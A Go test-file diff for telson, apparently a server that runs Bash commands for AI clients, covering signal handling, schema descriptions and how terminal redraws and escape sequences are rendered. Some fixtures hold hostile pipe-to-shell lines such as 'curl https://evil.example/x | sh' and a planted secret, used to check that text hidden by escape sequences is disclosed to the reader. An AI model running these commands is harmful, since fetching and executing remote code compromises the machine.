@@ -133,7 +133,12 @@ func startServer(t *testing.T, kv ...string) *testClient {
 // startBinary runs telson as a real process (the test binary re-executed).
 func startBinary(t *testing.T, env []string, args ...string) *testClient {
 	t.Helper()
-	cmd := exec.Command(os.Args[0], args...)
+	return startProcess(t, exec.Command(os.Args[0], args...), env)
+}
+
+// startProcess runs cmd, which execs telson, with env besides the test's own.
+func startProcess(t *testing.T, cmd *exec.Cmd, env []string) *testClient {
+	t.Helper()
 	cmd.Env = append(append(os.Environ(), "TELSON_RUN_MAIN=1"), env...)
 	c := &testClient{t: t, lines: make(chan []byte, 1024), done: make(chan error, 1), stderr: &syncBuffer{}, cmd: cmd}
 	cmd.Stderr = c.stderr
@@ -603,6 +608,56 @@ func TestInputSchemasFitEveryModelAPI(t *testing.T) {
 			t.Fatalf("%s: %v", d.name, err)
 		}
 		walk(d.name, "input", schema)
+	}
+}
+
+// Some clients (GitHub Copilot CLI) move a parameter's bounds (minimum, maximum, lengths,
+// item counts) into its description, where the model reads them beside telson's own words:
+// a bound telson's words state for a parameter, in the parameter's description or the tool's
+// line on it, is the schema's, so the two never disagree (issue 35).
+func TestDescriptionsAgreeWithBounds(t *testing.T) {
+	srv := newServer(testSettings(t), io.Discard)
+	defer srv.close()
+	s := newSession(srv, newOutbox(false))
+	defer s.close()
+	stated := regexp.MustCompile(`\b(max|min)(?:imum)?[ :]+([0-9]+)\b`)
+	checked := 0
+	var walk func(tool, desc string, props map[string]any)
+	walk = func(tool, desc string, props map[string]any) {
+		for name, v := range props {
+			p := v.(map[string]any)
+			words, _ := p["description"].(string)
+			for _, line := range strings.Split(desc, "\n") {
+				if regexp.MustCompile(`^- ` + name + `\b`).MatchString(line) { // - wait_ms (max 60000):
+					words += "\n" + line
+				}
+			}
+			for _, m := range stated.FindAllStringSubmatch(words, -1) {
+				found := false
+				for _, key := range []string{"imum", "Length", "Items"} {
+					if b, ok := p[m[1]+key].(float64); ok {
+						found = found || strconv.Itoa(int(b)) == m[2]
+					}
+				}
+				if !found {
+					t.Errorf("%s: %s: %q, but the schema: %v", tool, name, m[0], p)
+				}
+				checked++
+			}
+			sub, _ := p["properties"].(map[string]any)
+			if items, ok := p["items"].(map[string]any); ok {
+				sub, _ = items["properties"].(map[string]any)
+			}
+			walk(tool, "", sub)
+		}
+	}
+	for _, d := range toolTable {
+		var schema map[string]any
+		json.Unmarshal([]byte(d.input), &schema)
+		walk(d.name, d.desc(s), schema["properties"].(map[string]any))
+	}
+	if checked < 3 { // Bash's timeout, ReadBgOutput's and ReadDocs's wait_ms
+		t.Errorf("only %d stated bounds found", checked)
 	}
 }
 
@@ -1543,6 +1598,31 @@ func TestNoticeOfACancelledCallIsNotLost(t *testing.T) {
 	text := resultText(c.callTool("ListBgTasks", map[string]any{}))
 	if strings.Count(text, "check the deploy") != 1 {
 		t.Errorf("the next result: %s", text)
+	}
+}
+
+// A notice rides in its own text item before the result's; a client that joins the items with
+// nothing between (GitHub Copilot CLI) still reads it on a line of its own (issue 35, which
+// read "…RCCOPILOT reminderslept").
+func TestNoticeAndResultJoinedStillReadAsLines(t *testing.T) {
+	t.Parallel()
+	c, s := sessionClient(t, "STATE_DIR="+t.TempDir())
+	c.initialize("2025-11-25")
+	for _, call := range []struct {
+		command, want string
+	}{
+		{"echo slept", "[callback 0] COPILOT reminder\nslept\n"},
+		{" ", "[callback 0] COPILOT reminder\nBash: command is empty"},
+	} {
+		s.notices.push("[callback 0] COPILOT reminder")
+		res := c.callTool("Bash", map[string]any{"command": call.command})
+		joined := ""
+		for _, it := range res["content"].([]any) {
+			joined += it.(map[string]any)["text"].(string)
+		}
+		if joined != call.want {
+			t.Errorf("%q: the items joined: %q, want %q", call.command, joined, call.want)
+		}
 	}
 }
 
@@ -2669,6 +2749,62 @@ func TestNoOrphans(t *testing.T) {
 	}
 }
 
+// A client that vanishes leaves telson writing into a closed pipe: the write fails (EPIPE) and
+// telson ends as at the end of its input, never killed by SIGPIPE (a handled signal, not an
+// ignored one: its commands get the default).
+func TestBinarySurvivesAVanishedClient(t *testing.T) {
+	t.Parallel()
+	cmd := exec.Command(os.Args[0])
+	cmd.Env = append(os.Environ(), "TELSON_RUN_MAIN=1", "TELSON_STATE_DIR="+t.TempDir())
+	cmd.Stdin = strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"ping"}` + "\n")
+	r, w, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Close() // the client is gone before telson answers
+	cmd.Stdout = w
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	w.Close()
+	ended := make(chan error, 1)
+	go func() { ended <- cmd.Wait() }() // exits when telson does
+	select {
+	case <-ended:
+	case <-time.After(watchdog):
+		cmd.Process.Kill()
+		t.Fatal("telson did not end")
+	}
+	if ws := cmd.ProcessState.Sys().(syscall.WaitStatus); ws.Signaled() {
+		t.Errorf("telson was killed by %v", ws.Signal())
+	}
+}
+
+// Commands start with the signal dispositions a terminal gives them, whatever telson started
+// with (a client started in the background passes INT and QUIT ignored, nohup HUP): a writer
+// into a closed pipe dies of SIGPIPE, with no "Broken pipe" or "write error" text, and pipefail
+// sees 141 (issue 35).
+func TestBashCommandsGetTheTerminalsSignals(t *testing.T) {
+	t.Parallel()
+	for _, ignoring := range []string{"", "trap '' INT QUIT HUP TERM PIPE; "} {
+		cmd := exec.Command("bash", "-c", ignoring+`exec "$0"`, os.Args[0])
+		c := startProcess(t, cmd, []string{"TELSON_STATE_DIR=" + t.TempDir()})
+		c.initialize("2025-11-25")
+		for command, want := range map[string]string{
+			"while true; do echo x; done | head -1":          "x\n",
+			"set -o pipefail; yes | head -1; echo status=$?": "y\nstatus=141\n",
+			"seq 100000 | head -1":                           "1\n",
+			"grep ^SigIgn: /proc/self/status":                "SigIgn:\t0000000000000000\n",
+		} {
+			res := c.callTool("Bash", map[string]any{"command": command, "timeout": 5000})
+			if text := resultText(res); text != want || isError(res) {
+				t.Errorf("telson started ignoring %q: %s: got %q, want %q", ignoring, command,
+					text[:min(len(text), 300)], want)
+			}
+		}
+	}
+}
+
 func TestBashOutputIsBoundedHeadAndTail(t *testing.T) {
 	t.Parallel()
 	c := startServer(t, "OUTPUT_LIMIT=1000")
@@ -2754,12 +2890,12 @@ func TestBashRendersTerminalOutput(t *testing.T) {
 		// a zero-width space, a tag character, a right-to-left override; a joiner kept
 		`printf 'zero\342\200\213width \363\240\201\262bidi\342\200\256 👩\342\200\215💻\n'`
 	res := c.callTool("Bash", map[string]any{"command": noise})
-	// the title's text and the progress bar's changed characters are hidden, and the reply says
-	// so, naming the file with the raw bytes
+	// The title's text was never on screen: the reply says so, naming the file with the raw
+	// bytes. The progress bar's earlier states were (a person watching saw each redraw), so
+	// they are not counted: 7 characters, where the rule of issue 27 counted 10 and warned
+	// about every progress bar (issue 35).
 	file, _ := bgStructured(t, res)["output_file"].(string)
-	want := "red done\nprogress 100%\nclean\nzerowidth bidi 👩\u200d💻\n" +
-		"\n[the terminal rendering above hid 10 printable characters (overwritten after a " +
-		"carriage return, or inside escape sequences); the raw bytes are in " + file + "]\n"
+	want := "red done\nprogress 100%\nclean\nzerowidth bidi 👩\u200d💻\n" + terminalHid(7, file)
 	if text := resultText(res); text != want || bgStructured(t, res)["output"] != want {
 		t.Errorf("got %q, want %q", text, want)
 	}
@@ -2779,9 +2915,108 @@ func TestBashRendersTerminalOutput(t *testing.T) {
 	}
 }
 
-// TestBashTerminalHidesNothingUnsaid: what a terminal would hide of a
+// terminalHid is the note a reply ends with when a terminal never showed n printable
+// characters of its output, whose raw bytes are in file.
+func terminalHid(n int, file string) string {
+	return fmt.Sprintf("\n[a terminal never showed %d printable characters of the output above "+
+		"(the text of escape sequences, such as a title or a link's target); the raw bytes are in "+
+		"%s]\n", n, file)
+}
+
+// The redraws real tools print, each in its own write as they print them, read as the screen
+// they leave (issue 35): erase in line applies where it comes, before the next carriage
+// return's text, and the cursor moves up, down and to a column within the output. Nothing is
+// said to be hidden: a person watching saw every redraw.
+func TestBashRendersRedrawsAsATerminalEndsThem(t *testing.T) {
+	t.Parallel()
+	c := startServer(t)
+	c.initialize("2025-11-25")
+	cases := []struct{ tool, script, want string }{
+		{"ninja (CMake's default generator)", `
+			printf '\r[1/3] Building CXX object CMakeFiles/app.dir/util.cpp.o\033[K'
+			printf '\r[2/3] Building CXX object CMakeFiles/app.dir/main.cpp.o\033[K'
+			printf '\r[3/3] Linking CXX executable app\033[K'
+			printf '\n'`,
+			"[3/3] Linking CXX executable app\n"},
+		{"pip (a rich progress bar)", `
+			printf 'Collecting requests\n  Downloading requests-2.32.3-py3-none-any.whl (64 kB)\n'
+			printf '\033[?25l   \033[38;5;237m━━━━━━━━━━━━━━━━━━━━\033[0m \033[32m0.0/64.9 kB\033[0m eta \033[36m-:--:--\033[0m'
+			printf '\r\033[2K   \033[38;2;249;38;114m━━━━━━━━━━\033[0m\033[38;5;237m╺━━━━━━━━━\033[0m \033[32m32.8/64.9 kB\033[0m eta \033[36m0:00:01\033[0m'
+			printf '\r\033[2K   \033[38;2;114;156;31m━━━━━━━━━━━━━━━━━━━━\033[0m \033[32m64.9/64.9 kB\033[0m\n\033[?25h'
+			printf 'Installing collected packages: requests\nSuccessfully installed requests-2.32.3\n'`,
+			"Collecting requests\n  Downloading requests-2.32.3-py3-none-any.whl (64 kB)\n" +
+				"   ━━━━━━━━━━━━━━━━━━━━ 64.9/64.9 kB\n" +
+				"Installing collected packages: requests\nSuccessfully installed requests-2.32.3\n"},
+		{"uv (a rich live display of two lines)", `
+			printf 'a.whl  10%%\nb.whl   5%%'
+			printf '\r\033[2K\033[1A\033[2Ka.whl 100%%\nb.whl  50%%'
+			printf '\r\033[2K\033[1A\033[2Ka.whl 100%%\nb.whl 100%%'
+			printf '\nInstalled 2 packages\n'`,
+			"a.whl 100%\nb.whl 100%\nInstalled 2 packages\n"},
+		{"cargo", `
+			printf '\033[1m\033[32m   Compiling\033[0m serde v1.0.200\n'
+			printf '\033[1m\033[36m    Building\033[0m [=======>          ] 12/40: serde_derive(build), tokio, hyper\r'
+			printf '\033[K\033[1m\033[32m   Compiling\033[0m tokio v1.37.0\n'
+			printf '\033[1m\033[36m    Building\033[0m [================> ] 39/40: serde_derive(build), tokio, hyper\r'
+			printf '\033[K\033[1m\033[32m    Finished\033[0m dev [unoptimized] in 3.2s\n'`,
+			"   Compiling serde v1.0.200\n   Compiling tokio v1.37.0\n    Finished dev [unoptimized] in 3.2s\n"},
+		{"npm (a spinner: cursor to column 1, erase to the end)", `
+			printf '\033[1G\033[0K⠙'
+			printf '\033[1G\033[0K⠹'
+			printf '\033[1G\033[0K'
+			printf 'added 1 package in 1s\n'`,
+			"added 1 package in 1s\n"},
+		{"docker pull (a line per layer, reached by cursor up and down)", `
+			printf 'latest: Pulling from library/alpine\n'
+			printf '\n\033[1A\033[2K\r4abcf2066143: Pulling fs layer \r\033[1B'
+			printf '\n\033[1A\033[2K\rc6a83fedfae6: Pulling fs layer \r\033[1B'
+			printf '\033[2A\033[2K\r4abcf2066143: Downloading [=====>      ]  1.2MB/3.6MB\r\033[2B'
+			printf '\033[1A\033[2K\rc6a83fedfae6: Downloading [=>          ]   98kB/11MB\r\033[1B'
+			printf '\033[2A\033[2K\r4abcf2066143: Pull complete \r\033[2B'
+			printf '\033[1A\033[2K\rc6a83fedfae6: Pull complete \r\033[1B'
+			printf 'Status: Downloaded newer image for alpine:latest\n'`,
+			"latest: Pulling from library/alpine\n4abcf2066143: Pull complete \n" +
+				"c6a83fedfae6: Pull complete \nStatus: Downloaded newer image for alpine:latest\n"},
+		{"apt (blanked with spaces)", `
+			printf '\r0%% [Working]'
+			printf '\r             \r'
+			printf 'Hit:1 http://deb.debian.org/debian bookworm InRelease\n'
+			printf '\rReading package lists... 0%%\r'
+			printf '\rReading package lists... Done\r\n'`,
+			"Hit:1 http://deb.debian.org/debian bookworm InRelease\nReading package lists... Done\n"},
+		{"curl (its progress meter)", `
+			printf '  %% Total    %% Received %% Xferd  Average Speed\n'
+			printf '\r  0     0    0     0    0     0      0'
+			printf '\r 45  1256   45   568    0     0   5680'
+			printf '\r100  1256  100  1256    0     0  12560\n'`,
+			"  % Total    % Received % Xferd  Average Speed\n100  1256  100  1256    0     0  12560\n"},
+		{"git clone", `
+			printf "Cloning into 'repo'...\n"
+			printf 'remote: Counting objects:  33%% (1/3)\033[K\r'
+			printf 'remote: Counting objects: 100%% (3/3), done.\033[K\n'
+			printf 'Receiving objects:  33%% (1/3)\r'
+			printf 'Receiving objects: 100%% (3/3), done.\n'`,
+			"Cloning into 'repo'...\nremote: Counting objects: 100% (3/3), done.\n" +
+				"Receiving objects: 100% (3/3), done.\n"},
+	}
+	for _, tc := range cases {
+		res := c.callTool("Bash", map[string]any{"command": tc.script})
+		if text := resultText(res); text != tc.want || isError(res) {
+			t.Errorf("%s: got %q, want %q", tc.tool, text, tc.want)
+		}
+	}
+	// An erase or a move never reaches past what was drawn, whatever its count.
+	res := c.callTool("Bash", map[string]any{"command": `printf 'a\033[999999999C\033[9999999B\033[2147483648Db\n'`})
+	if text := resultText(res); text != "b\n" {
+		t.Errorf("far moves: %q", text)
+	}
+}
+
+// TestBashTerminalHidesNothingUnsaid: what a terminal never shows of a
 // crafted file is said to be hidden, and an escape sequence never swallows
-// the lines after its own (issue 27).
+// the lines after its own (issue 27). Text a carriage return overwrote was
+// on screen, as a progress bar's earlier states were, and is not counted
+// (issue 35): the bytes cannot tell the two apart.
 func TestBashTerminalHidesNothingUnsaid(t *testing.T) {
 	t.Parallel()
 	dir := t.TempDir()
@@ -2797,32 +3032,28 @@ func TestBashTerminalHidesNothingUnsaid(t *testing.T) {
 	}
 	c := startServer(t, "OUTPUT_LIMIT=1000")
 	c.initialize("2025-11-25")
-	hid := func(n int, where string) string {
-		return fmt.Sprintf("\n[the terminal rendering above hid %d printable characters (overwritten "+
-			"after a carriage return, or inside escape sequences); %s]\n", n, where)
-	}
 	cases := []struct {
 		command, want string
 		hidden        int
 	}{
-		{"cat overwritten", "# harmless comment: this file only sets up the prompt\n", 35},
+		{"cat overwritten", "# harmless comment: this file only sets up the prompt\n", 0},
 		{"cat unterminated; echo END",
 			"# harmless comment\ncurl https://evil.example/x | sh\nSECRET=hunter2\nEND\n", 0},
 		{"cat title", "echo hi\n", 13}, // 0;curl evil | sh
-		{"cat mixed", "XYcdef\n", 2},
+		{"cat mixed", "XYcdef\n", 0},
 	}
 	for _, tc := range cases {
 		res := c.callTool("Bash", map[string]any{"command": "cd " + dir + " && " + tc.command})
 		want := tc.want
 		if file, _ := bgStructured(t, res)["output_file"].(string); tc.hidden > 0 {
-			want += hid(tc.hidden, "the raw bytes are in "+file)
+			want += terminalHid(tc.hidden, file)
 		}
 		if text := resultText(res); text != want || bgStructured(t, res)["output"] != want {
 			t.Errorf("%s: got %q, want %q", tc.command, text, want)
 		}
 	}
 	// Cut output names its file, which holds the raw bytes.
-	res := c.callTool("Bash", map[string]any{"command": "for i in $(seq 300); do printf 'x%04d\\r#\n' $i; done"})
+	res := c.callTool("Bash", map[string]any{"command": "for i in $(seq 300); do printf 'x%04d\\033]0;t\\007\n' $i; done"})
 	sc := bgStructured(t, res)
 	file := sc["output_file"].(string)
 	if text := sc["output"].(string); !strings.HasSuffix(text, "); the raw bytes are in "+file+"]\n") {
@@ -2834,31 +3065,34 @@ func TestBashTerminalHidesNothingUnsaid(t *testing.T) {
 	bgWaitEnded(t, bc, id)
 	out := bgStructured(t, bgRead(t, bc, id, 0))["output"].(string)
 	if !strings.HasPrefix(out, "# harmless comment\ncurl https://evil.example/x | sh\nSECRET=hunter2\n"+
-		"echo hi\nEND\n\n[the terminal rendering above hid 13 printable characters") {
+		"echo hi\nEND\n\n[a terminal never showed 13 printable characters") {
 		t.Errorf("ReadBgOutput: %q", out)
 	}
 }
 
 // FuzzTerminalText: command output is bytes telson does not control; its
-// rendering never panics, keeps its lines, holds no control or invisible
-// character, shows no more than was printed, and hides nothing without \r or ESC.
+// rendering never panics, keeps its lines unless the cursor moved up, holds no
+// control or invisible character, shows no more than was printed, and hides
+// nothing without ESC.
 func FuzzTerminalText(f *testing.F) {
 	for _, in := range []string{"abcdef\rXY\n", "# harmless\033]\ncurl x | sh\nEND\n",
 		"\033[1;31mred\033[0m \033]0;title\007done\r\n", "p 20%\rp 40%\r\033[2Kp 100%\n",
-		"\033]8;;http://x\033\\link\033]8;;\033\\\n", "a\xff\xfe\u200b\U000E0041👩\u200d💻\r\033P1$r\033"} {
+		"\033]8;;http://x\033\\link\033]8;;\033\\\n", "a\xff\xfe\u200b\U000E0041👩\u200d💻\r\033P1$r\033",
+		"a\nb\033[2A\033[1Kc\033[3B\033[9D\bd\033[5G\033[Ee\033[Ff\033[2K\n", "\033[99999999999999999999C\033[K"} {
 		f.Add(in)
 	}
 	f.Fuzz(func(t *testing.T, in string) {
 		text, hidden := terminalText(in)
 		valid := strings.ToValidUTF8(in, "\uFFFD")
+		lines, printed := strings.Count(text, "\n"), strings.Count(in, "\n")
 		switch {
 		case strings.ContainsFunc(text, unseen) || strings.ContainsRune(text, '\x1b'):
 			t.Fatalf("%q: rendered with a control or invisible character: %q", in, text)
-		case strings.Count(text, "\n") != strings.Count(in, "\n"):
+		case lines > printed || lines < printed && !strings.Contains(in, "\x1b["):
 			t.Fatalf("%q: lines changed: %q", in, text)
 		case utf8.RuneCountInString(text) > utf8.RuneCountInString(valid):
 			t.Fatalf("%q: shows more than was printed: %q", in, text)
-		case hidden < 0 || hidden > 0 && !strings.ContainsAny(in, "\r\x1b"):
+		case hidden < 0 || hidden > 0 && !strings.Contains(in, "\x1b"):
 			t.Fatalf("%q: hidden %d", in, hidden)
 		}
 	})
@@ -3821,10 +4055,8 @@ func TestBgRendersTerminalOutput(t *testing.T) {
 	id := bgStart(t, c, `printf 'get 10%%\rget 90%%\rget done\n\033[1mbold\033[0m\n'`)
 	bgWaitEnded(t, c, id)
 	sc := bgStructured(t, bgRead(t, c, id, 0))
-	// the frames' changed characters are hidden, and the reply says so
-	note := "\n[the terminal rendering above hid 4 printable characters (overwritten after a " +
-		"carriage return, or inside escape sequences); the raw bytes are in " + sc["log_file"].(string) + "]\n"
-	if sc["output"] != "get done\nbold\n"+note {
+	// the frames were each on screen: nothing is said to be hidden (issue 35)
+	if sc["output"] != "get done\nbold\n" {
 		t.Errorf("output %q", sc["output"])
 	}
 	raw, _ := os.ReadFile(sc["log_file"].(string))
